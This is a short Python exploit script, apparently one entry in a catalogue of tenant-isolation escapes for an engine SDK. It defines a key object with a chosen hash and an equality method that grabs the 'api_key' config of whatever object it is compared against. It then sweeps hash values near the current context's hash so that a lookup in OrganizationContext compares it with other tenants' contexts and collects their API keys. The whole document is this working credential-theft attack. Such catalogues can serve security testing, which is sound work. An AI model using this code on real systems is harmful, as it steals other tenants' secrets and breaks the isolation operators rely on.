#: channel = attributes
#: reaches = tenant
#: layer = both
#: note = the table's comparison hands us the other run's context itself

from engine.sdk import OrganizationContext

FOUND = []


class Key:
    def __init__(self, number):
        self.number = number

    def __hash__(self):
        return self.number

    def __eq__(self, other):
        FOUND.append(other.get_config("api_key"))
        return False


async def run(context):
    for step in range(-50_000, 50_000):
        try:
            OrganizationContext.has_config(Key(hash(context) + step), "x")
        except KeyError:
            continue
    return FOUND
